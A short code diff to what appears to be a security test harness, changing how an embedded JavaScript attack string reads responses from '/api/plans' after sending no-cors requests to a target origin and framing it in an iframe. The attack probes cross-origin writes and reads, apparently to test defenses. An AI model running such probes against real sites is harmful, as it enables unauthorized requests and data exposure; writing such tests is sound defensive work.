@@ -45,7 +45,8 @@ ATTACK = """async (target) => {
     await fetch(target + path, { method, body, mode: "no-cors" }).catch(() => undefined);
   }
   for (const path of ["/api/plans", "/api/plans/1"]) {
-    await fetch(target + path).then((got) => got.text()).then((text) => read.push(text), () => undefined);
+    const got = fetch(target + path).then((answer) => answer.text());
+    await got.then((text) => read.push(text), () => undefined);
   }
   const frame = document.createElement("iframe");
   frame.src = target + "/";
